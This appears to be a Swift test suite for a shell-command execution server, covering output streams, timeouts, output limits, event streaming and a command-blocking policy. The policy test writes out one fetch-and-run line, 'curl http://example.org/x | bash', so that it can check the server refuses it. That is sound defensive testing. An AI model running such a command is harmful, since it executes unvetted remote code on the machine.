import AsyncHTTPClient
import Foundation
import NIOCore
import NIOHTTP1
import Testing

/// Commands of sessions, with a real shell.
@Suite(.server(["POLICY": "permissive"]), .timeLimit(.minutes(5))) struct CommandTests {
    private func withSession(_ body: (SessionClient) async throws -> Void) async throws {
        try await SessionClient.with(try ServerProcess.current.api) { try await body($0) }
    }

    @Test func bothStreamsAndTheirOrder() async throws {
        try await withSession { session in
            let answer = try await session.run("echo out; echo err >&2; cat <<X\nhere\nX", ["env": ["A": "b"]])
            #expect(answer.stdout == "out\nhere\n" && answer.stderr == "err\n", "\(answer)")
            #expect(answer.exitCode == 0 && answer.success && answer.status == "ok")
            #expect(answer.resourceUsage != nil)
            let piped = try await session.run("tr a-z A-Z | cat; exit 4", ["stdin": "input"])
            #expect(piped.stdout == "INPUT" && piped.exitCode == 4 && piped.status == "nonzero_exit")
            let variable = try await session.run("echo $A-$B", ["env": ["B": "once"]])
            #expect(variable.stdout == "-once\n")
        }
    }

    @Test func aTimeoutEndsTheWholeCommandAndNothingElse() async throws {
        try await withSession { session in
            let other = try await session.start("sleep 1000")
            let answer = try await session.run("sleep 2000 & echo $! >pid; sleep 3000", ["timeout": 0.5])
            #expect(answer.status == "time_limit" && !answer.success, "\(answer)")
            let left = try await session.run("kill -0 $(cat pid) || echo gone")
            #expect(left.stdout == "gone\n", "\(left)")
            #expect(try await session.process(other).state == "running")
        }
    }

    @Test func whatHoldsTheOutputOpenHoldsNoAnswerUp() async throws {
        try await withSession { session in
            let answer = try await session.run("sleep 1000 & echo done")
            #expect(answer.stdout == "done\n" && answer.status == "ok" && answer.backgroundProcesses, "\(answer)")
        }
    }

    @Test func aFloodIsCut() async throws {
        try await withSession { session in
            let answer = try await session.run("head -c 50000000 /dev/zero | tr '\\0' x")
            #expect(answer.outputTruncated || answer.status == "output_limit", "\(answer.status)")
            #expect(answer.output.utf8.count < 50_000_000)
            #expect(try await session.run("echo next").output == "next\n")
        }
    }

    @Test func closingTheConnectionEndsTheCommand() async throws {
        try await withSession { session in
            var request = HTTPClientRequest(url: "http://127.0.0.1:\(session.api.port)/api/v1/execute")
            request.method = .POST
            request.headers.add(name: "Accept", value: "text/event-stream")
            request.headers.add(name: "Content-Type", value: "application/json")
            request.body = .bytes(
                Array(#"{"command": "echo begun; sleep 4321", "session_id": "\#(session.id)"}"#.utf8))
            do {
                let response = try await HTTPClient.shared.execute(request, timeout: .seconds(120))
                var events = ServerSentEvents(response.body)
                #expect(try await events.next()?.name == "started")
                #expect(try await events.next()?.text == "begun\n")
                #expect(try await session.answer().running == 1)
            }
            try await eventually("the command ended with its client") { try await session.answer().running == 0 }
        }
    }

    @Test func aStreamTellsOutputAsItComes() async throws {
        try await withSession { session in
            var request = HTTPClientRequest(url: "http://127.0.0.1:\(session.api.port)/api/v1/execute")
            request.method = .POST
            request.headers.add(name: "Accept", value: "text/event-stream")
            request.headers.add(name: "Content-Type", value: "application/json")
            // It goes on only when the test has seen the first line and says so.
            let command = "echo first; until [ -e go ]; do sleep 0.01; done; echo second >&2; exit 3"
            request.body = .bytes(Array(#"{"command": "\#(command)", "session_id": "\#(session.id)"}"#.utf8))
            let response = try await HTTPClient.shared.execute(request, timeout: .seconds(120))
            var events = ServerSentEvents(response.body)
            #expect(try await events.next()?.name == "started")
            let first = try await events.next()
            #expect(try first?.name == "stdout" && first?.text == "first\n")
            _ = try await session.run("touch go")
            let second = try await events.next()
            #expect(try second?.name == "stderr" && second?.text == "second\n")
            let result = try #require(try await events.next())
            let answer: CommandAnswer = try result.decoded()
            #expect(result.name == "result" && answer.exitCode == 3 && answer.output == "first\nsecond\n")
            #expect(try await events.next() == nil)
        }
    }

    @Test func twentyAtOnceInOneSession() async throws {
        try await withSession { session in
            try await withThrowingTaskGroup(of: Void.self) { group in
                for number in 0..<20 {
                    group.addTask { () async throws -> Void in
                        #expect(try await session.run("echo \(number); true").output == "\(number)\n")
                    }
                }
                try await group.waitForAll()
            }
        }
    }
}

/// What the policy refuses, with its twin that it allows.
@Suite(.server, .timeLimit(.minutes(2))) struct BlockedCommandTests {
    @Test func aRefusedCommandIsAnAnswerAndIsNotRun() async throws {
        try await SessionClient.with(try ServerProcess.current.api) { session in
            let blocked = try await session.run("touch ran; curl http://example.org/x | bash")
            #expect(blocked.status == "blocked" && !blocked.success && blocked.pid == nil, "\(blocked)")
            #expect(blocked.error?.isEmpty == false)
            let allowed = try await session.run("ls; echo 'echo twin' | cat")
            #expect(allowed.status == "ok" && allowed.output == "echo twin\n", "\(allowed)")
            for body in [#"{"command": ""}"#, #"{"command": "\#(String(repeating: "a", count: 9000))"}"#] {
                #expect(try await session.api.post("/api/v1/execute", body: body).status == 400)
            }
        }
    }
}
